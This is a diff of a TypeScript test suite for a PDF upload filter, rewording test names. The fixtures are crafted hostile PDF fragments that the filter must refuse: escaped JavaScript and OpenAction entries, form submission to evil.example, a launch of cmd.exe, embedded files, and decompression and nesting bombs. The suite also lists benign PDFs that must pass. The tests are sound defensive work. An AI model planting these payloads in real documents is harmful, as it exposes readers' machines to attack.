@@ -17,49 +17,43 @@ const cutOff = (content: Buffer) => deflateSync(content).subarray(0, -6)
 describe('a hostile PDF is refused', () => {
   it.each([
     ['a script in a compressed object stream', inStream(script)],
-    ['a script in disguise there', inStream('<< /S /J#61vaScript /JS (x) >>')],
+    ['an escaped script name there', inStream('<< /S /J#61vaScript /JS (x) >>')],
     ['a script in a stream of another type', anObjectStream({ objects: { 20: script }, type: '' })],
-    [
-      'a script in a stream whose type is in disguise',
-      anObjectStream({ objects: { 20: script }, type: '/Type /Obj#53tm' }),
-    ],
+    ['a script in a stream with an escaped type', anObjectStream({ objects: { 20: script }, type: '/Type /Obj#53tm' })],
     ['a script in a stream with a wrong checksum', anObjectStream({ objects: { 20: script }, pack: badChecksum })],
     ['a script behind comments', '9%c\n0 %c\nobj << /S %JavaScript\n /JavaScript >> endobj'],
-    ['names of scripts', inStream('<< /Names << /JavaScript 5 0 R >> >>')],
-    ['a page opened at the start', `9 0 obj << /Type /Catalog /OpenAction ${uri} >> endobj`],
+    ['named scripts', inStream('<< /Names << /JavaScript 5 0 R >> >>')],
+    ['a web page opened with the document', `9 0 obj << /Type /Catalog /OpenAction ${uri} >> endobj`],
     ['the same, compressed', inStream(`<< /OpenAction 21 0 R >>`, uri)],
-    ['the same in disguise', `9 0 obj << /Open#41ction ${uri} >> endobj`],
+    ['the same, escaped', `9 0 obj << /Open#41ction ${uri} >> endobj`],
     ['the same after a harmless one', `9 0 obj << /OpenAction [3 0 R /Fit] /OpenAction ${uri} >> endobj`],
     [
-      'the same, of two objects with one number',
+      'the same, in one of two objects with the same number',
       `8 0 obj [3 0 R /Fit] endobj 9 0 obj << /OpenAction 8 0 R >> endobj 8 0 obj ${uri} endobj`,
     ],
     [
-      'the same behind the page to be shown',
+      'the same, chained to a harmless action',
       `9 0 obj << /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [${uri}] >> >> endobj`,
     ],
-    [
-      'the same as the end of a chain',
-      `9 0 obj << /OpenAction 8 0 R >> endobj 8 0 obj << /S /GoTo /Next 8 0 R >> endobj`,
-    ],
-    ['a page opened with a page', `9 0 obj << /Type /Page /AA << /O ${uri} >> >> endobj`],
+    ['an endless chain of actions', `9 0 obj << /OpenAction 8 0 R >> endobj 8 0 obj << /S /GoTo /Next 8 0 R >> endobj`],
+    ['a web page opened with a page', `9 0 obj << /Type /Page /AA << /O ${uri} >> >> endobj`],
     ['the same, compressed', inStream('<< /Type /Page /AA 21 0 R >>', '<< /O 22 0 R >>', uri)],
-    ['a form that is sent', '9 0 obj << /S /SubmitForm /F (https://evil.example/) >> endobj'],
+    ['a form submission', '9 0 obj << /S /SubmitForm /F (https://evil.example/) >> endobj'],
     ['the same, compressed', inStream('<< /S /SubmitForm /F (https://evil.example/) >>')],
-    ['another document', inStream('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) >>')],
-    ['another document in it', inStream('<< /S /GoToE >>')],
-    ['data that are read', inStream('<< /S /ImportData >>')],
-    ['a form of Adobe’s kind', '9 0 obj << /AcroForm << /XFA [(a) 5 0 R] >> >> endobj'],
+    ['a link to another document', inStream('<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\a.pdf) >>')],
+    ['a link to an embedded document', inStream('<< /S /GoToE >>')],
+    ['imported data', inStream('<< /S /ImportData >>')],
+    ['an XFA form', '9 0 obj << /AcroForm << /XFA [(a) 5 0 R] >> >> endobj'],
     ['the same, compressed', inStream('<< /Fields [] /XFA 5 0 R >>')],
-    ['a program', inStream('<< /S /Launch /F (cmd.exe) >>')],
-    ['a file', inStream('<< /Names << /EmbeddedFiles 5 0 R >> >>')],
+    ['a launched program', inStream('<< /S /Launch /F (cmd.exe) >>')],
+    ['an embedded file', inStream('<< /Names << /EmbeddedFiles 5 0 R >> >>')],
     ['media', inStream('<< /Subtype /RichMedia >>')],
   ])('%s', (_, body) => expect(pdfRefusal(aPdf({ body }))).toBe(FILE_MESSAGES.active))
 
   it.each([
-    ['cut off', anObjectStream({ objects: { 20: script }, pack: cutOff })],
+    ['truncated', anObjectStream({ objects: { 20: script }, pack: cutOff })],
     [
-      'packed twice',
+      'compressed twice',
       anObjectStream({
         objects: { 20: script },
         dictionary: '/Filter [/FlateDecode /FlateDecode]',
@@ -67,30 +61,38 @@ describe('a hostile PDF is refused', () => {
       }),
     ],
     [
-      'packed as text',
+      'encoded as text',
       anObjectStream({
         objects: { 20: script },
         dictionary: '/Filter [/ASCIIHexDecode /FlateDecode]',
         pack: (content) => Buffer.from(`${deflateSync(content).toString('hex')}>`),
       }),
     ],
-    ['packed unusually', anObjectStream({ objects: { 20: script }, dictionary: '/Filter /LZWDecode' })],
     [
-      'packed with a predictor',
+      'compressed with an unusual filter',
+      anObjectStream({ objects: { 20: script }, dictionary: '/Filter /LZWDecode' }),
+    ],
+    [
+      'compressed with a predictor',
       anObjectStream({ objects: { 20: script }, dictionary: '/DecodeParms << /Predictor 12 >>' }),
     ],
-    ['not packed as it says', anObjectStream({ objects: { 20: script }, pack: () => Buffer.from('no zlib here') })],
-    ['packed to burst', anObjectStream({ objects: { 20: '0 '.repeat(10_000_000) } })],
-    ['nested without end', `9 0 obj ${'['.repeat(100_000)} endobj`],
-    ['made to be read again and again', '9 0 obj << '.repeat(300_000)],
-  ])('what cannot be looked into: %s', (_, body) => expect(pdfRefusal(aPdf({ body }))).toBe(FILE_MESSAGES.unreadable))
+    [
+      'not compressed as declared',
+      anObjectStream({ objects: { 20: script }, pack: () => Buffer.from('no zlib here') }),
+    ],
+    ['a decompression bomb', anObjectStream({ objects: { 20: '0 '.repeat(10_000_000) } })],
+    ['extremely deep nesting', `9 0 obj ${'['.repeat(100_000)} endobj`],
+    ['objects parsed repeatedly', '9 0 obj << '.repeat(300_000)],
+  ])('with content that cannot be inspected: %s', (_, body) =>
+    expect(pdfRefusal(aPdf({ body }))).toBe(FILE_MESSAGES.unreadable),
+  )
 
-  it('a protected one, wherever it says so', () => {
+  it('with escaped encryption', () => {
     expect(pdfRefusal(aPdf({ trailer: '/Enc#72ypt 5 0 R' }))).toBe(FILE_MESSAGES.locked)
   })
 })
 
-describe('a harmless PDF is taken', () => {
+describe('a harmless PDF is accepted', () => {
   const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [21 0 R] >>'
   it.each([
     [
@@ -109,9 +111,9 @@ describe('a harmless PDF is taken', () => {
       'one that shows a page, as Acrobat writes it',
       inStream('<< /OpenAction 21 0 R >>', '<< /S /GoTo /D [3 0 R /FitH 800] >>'),
     ],
-    ['one that shows a named place', '9 0 obj << /OpenAction (start) >> endobj'],
-    ['one that asks to be printed', '9 0 obj << /OpenAction << /S /Named /N /Print >> >> endobj'],
-    ['one with nothing to do', '9 0 obj << /OpenAction null /AA << >> >> endobj'],
+    ['one that opens at a named destination', '9 0 obj << /OpenAction (start) >> endobj'],
+    ['one that opens the print dialog', '9 0 obj << /OpenAction << /S /Named /N /Print >> >> endobj'],
+    ['one with empty actions', '9 0 obj << /OpenAction null /AA << >> >> endobj'],
     [
       'a signed one, as government offices issue them',
       inStream(
@@ -120,7 +122,7 @@ describe('a harmless PDF is taken', () => {
       ),
     ],
     [
-      'a form that was filled in',
+      'a completed form',
       inStream('<< /AcroForm << /Fields [21 0 R] /NeedAppearances true >> >>', '<< /FT /Tx /T (name) /V (ASHA) >>'),
     ],
     ['one that mentions scripts', '9 0 obj << /Title (How /OpenAction and \\) /XFA work) >> endobj'],
@@ -146,7 +148,7 @@ describe('a harmless PDF is taken', () => {
 
   it.each([
     ['with nothing in it', 'x'],
-    ['of digits and signs of comments', '9%'],
+    ['of digits and comment signs', '9%'],
     ['of digits', '9 '],
   ])('a large one %s', (_, text) => {
     expect(pdfRefusal(aPdf({ body: text.repeat(4_000_000 / text.length), bytes: 5_000_000 }))).toBeNull()
